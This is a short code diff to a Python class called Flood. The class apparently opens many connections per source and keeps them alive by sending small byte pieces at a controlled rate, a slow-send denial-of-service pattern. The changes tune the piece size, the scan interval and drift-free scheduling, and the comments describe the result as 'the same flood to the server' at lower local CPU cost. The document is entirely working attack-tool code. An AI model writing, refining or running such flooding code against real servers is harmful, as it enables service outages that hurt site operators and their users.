@@ -85,7 +85,10 @@ class Flood:
         for source in self.sources:
             for _ in range(self.count):
                 self._open(source)
-        piece = b"-" * max(1, int(self.rate / 10))
+        # The rate in four pieces a second, looked at every 50 ms: a smaller piece more often is
+        # the same flood to the server, but costs this script a core of the machine it shares.
+        piece = b"-" * max(1, int(self.rate / 4))
+        next_scan = 0.0
         last = time.monotonic()
         allowance = 0.0
         while not self.done:
@@ -101,7 +104,7 @@ class Flood:
                 if events & selectors.EVENT_WRITE and not data["sent"]:
                     try:
                         s.send(self.first)
-                        data["sent"], data["next"] = True, now + 0.1
+                        data["sent"], data["next"] = True, now + 0.25
                         self.selector.modify(s, selectors.EVENT_READ, data)
                     except BlockingIOError:
                         pass
@@ -117,11 +120,13 @@ class Flood:
                         got = b""
                     line = got.split(b"\r\n", 1)[0].decode(errors="replace")[9:12] if got else "closed"
                     self._close(s, line or "closed")
-            if self.rate:
+            if self.rate and now >= next_scan:
+                next_scan = now + 0.05
                 for key in list(self.selector.get_map().values()):
                     data = key.data
                     if data["sent"] and now >= data["next"]:
-                        data["next"] = now + 0.1
+                        # Without drift: a late piece does not lower the rate.
+                        data["next"] += 0.25
                         try:
                             key.fileobj.send(piece)
                         except (BlockingIOError, InterruptedError):
